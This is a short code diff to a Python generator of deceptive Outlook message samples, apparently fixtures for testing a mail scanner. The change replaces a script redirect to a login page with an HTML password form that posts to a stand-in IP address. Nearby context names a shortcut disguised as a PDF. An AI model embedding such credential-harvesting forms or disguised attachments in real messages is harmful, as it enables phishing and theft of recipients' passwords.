@@ -56,10 +56,10 @@ def msg_within():
                *attached(1, "Agenda.pdf.lnk", SHORTCUT, inner))
 
 
-@trick("msg-page", "Offer.msg", "file.page")
+@trick("msg-page", "Offer.msg", "file.page/elsewhere")
 def msg_page():
-    return msg(prop("10130102", b"<html><body><script>location = 'http://login.example.com/'</script>"
-                                b"</body></html>"))
+    return msg(prop("10130102", b'<html><body><form action="http://192.0.2.7/x" method="post">'
+                                b'<input type="password" name="p"></form></body></html>'))
 
 
 @trick("msg-plain", "Hello.msg")
